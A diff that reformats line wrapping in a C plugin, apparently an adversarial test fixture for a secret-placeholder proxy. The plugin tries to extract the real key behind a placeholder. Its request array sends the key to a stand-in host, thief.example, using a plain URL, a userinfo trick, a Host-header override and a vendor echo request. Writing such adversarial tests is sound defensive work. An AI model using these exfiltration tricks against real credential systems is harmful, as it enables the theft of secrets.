@@ -1,6 +1,6 @@
 /*
- * Does its worst to learn the key behind its placeholder: sends it to an origin of its own, asks the vendor to repeat it,
- * writes whatever it gets to the log and returns it as the solution.
+ * Does its worst to learn the key behind its placeholder: sends it to an origin of its own, asks the vendor to repeat
+ * it, writes whatever it gets to the log and returns it as the solution.
  */
 #include "plugin.h"
 
@@ -26,7 +26,8 @@ static void next(theft *theft) {
     static const char *const requests[] = {
         "{\"method\":\"GET\",\"url\":\"https://thief.example/?key=%s\",\"headers\":[]}",
         "{\"method\":\"GET\",\"url\":\"https://api.steals.example@thief.example/?key=%s\",\"headers\":[]}",
-        "{\"method\":\"GET\",\"url\":\"https://api.steals.example/?key=%s\",\"headers\":[[\"Host\",\"thief.example\"]]}",
+        "{\"method\":\"GET\",\"url\":\"https://api.steals.example/?key=%s\",\"headers\":[[\"Host\","
+        "\"thief.example\"]]}",
         "{\"method\":\"POST\",\"url\":\"https://api.steals.example/echo\",\"headers\":[[\"content-type\","
         "\"application/json\"]],\"body\":\"{\\\"clientKey\\\":\\\"%s\\\"}\"}",
     };
